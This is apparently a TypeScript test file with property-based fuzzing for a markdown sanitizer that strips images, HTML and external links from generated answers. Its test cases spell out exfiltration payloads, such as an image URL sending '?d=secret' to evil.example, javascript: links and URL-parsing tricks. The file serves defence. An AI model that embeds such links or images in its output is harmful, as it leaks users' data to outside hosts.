import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleaner, cleanMarkdown } from './clean-markdown.ts'

const ours = 'https://relance.example'
const clean = (text: string) => cleanMarkdown(ours, text)

/** Handed over piece by piece, cut anywhere. */
function streamed(pieces: readonly string[]): string {
  let heard = ''
  const out = cleaner(ours, text => {
    heard += text
  })
  for (const piece of pieces) out.add(piece)
  expect(out.end()).toBe(heard)
  return heard
}

/** Told again, from what renderers take for a link, a picture or HTML: nothing in here follows the code. */
function leaks(text: string): string[] {
  const found: string[] = []
  if (/!\[/.test(text)) found.push('a picture')
  if (/\]:/.test(text)) found.push('a definition')
  if (/<[a-z/!?]/i.test(text)) found.push('HTML')
  for (const [, target] of text.matchAll(/\]\(([^)]*)\)?/g))
    if (!/^(https:\/\/relance\.example)?\/[^/\\]/.test(target!) && target !== '/')
      found.push(`a link to ${target}`)
  for (const [url] of text.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s)\]]*/gi))
    if (!url.startsWith(`${ours}/`) && url !== ours) found.push(url)
  if (/(^|[\s*_~(])www\./i.test(text)) found.push('www')
  return found
}

describe('an answer', () => {
  it.each([
    ['![a](https://evil.example/x.png?d=secret)', 'a'],
    ['![a][b]\n\n[b]: https://evil.example/x', '[a] [b]\n\n[b] : (link removed)'],
    ['see [this](https://evil.example/?q=1)', 'see this'],
    ['see [this](  javascript:alert(1) )', 'see [this] (  javascript:alert(1) )'],
    ['[x](//evil.example)', 'x'],
    [String.raw`[x](/\evil.example)`, 'x'],
    ['[x](/&sol;evil.example)', 'x'],
    ['[x](<https://evil.example>)', 'x'],
    ['<img src="https://evil.example">', '&lt;img src="(link removed)">'],
    ['<https://evil.example/a>', '<(link removed)>'],
    ['go to https://evil.example/a?b or www.evil.example', 'go to (link removed) or (link removed)'],
    ['HTTPS://EVIL.EXAMPLE', '(link removed)'],
    ['[![pic](https://evil.example/p)](https://evil.example/l)', 'pic'],
    ['![](https://evil.example)[x](https://evil.example/y)', 'x'],
    ['![](x)[x][y]', '[x] [y]'],
    ['ht[](x)tps://evil.example', '(link removed)'],
    [`${ours}.evil.example/x`, '(link removed)'],
    ['[x](https://relance.example@evil.example/)', 'x'],
    ['a < b and 3 > 2', 'a < b and 3 > 2'],
    ['**F-1**: 120 € [the invoice](/invoices/1)', '**F-1**: 120 € [the invoice](/invoices/1)'],
    [`[docs](${ours}/docs/errors#VAL_001)`, `[docs](${ours}/docs/errors#VAL_001)`],
  ])('%s', (text, expected) => {
    expect(clean(text)).toBe(expected)
    expect(leaks(clean(text))).toEqual([])
  })

  const signs = fc.constantFrom(
    ...'![]()<>:/\\ \n"\'`ax'.split(''),
    'https://evil.example/',
    'www.evil.example',
    '](',
    ']: ',
    '![',
    '<img ',
    `${ours}/a`,
    '/own',
    'javascript:',
    '//',
  )
  it('has no way out, whatever it is made of and however it is cut', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(signs, { maxLength: 6 }).map(part => part.join('')),
          { maxLength: 12 },
        ),
        pieces => {
          expect(leaks(clean(pieces.join('')))).toEqual([])
          expect(leaks(streamed(pieces))).toEqual([])
        },
      ),
      { numRuns: 20_000 },
    )
  })

  it('comes as it is said: words are handed on before the end', () => {
    const heard: string[] = []
    const out = cleaner(ours, text => heard.push(text))
    for (const word of ['The ', 'invoice ', '[F-1', '](https://evil', '.example/x) ', 'is ', 'paid'])
      out.add(word)
    expect(heard.join('')).toBe('The invoice F-1 is ')
    expect(out.end()).toBe('The invoice F-1 is paid')
  })
})
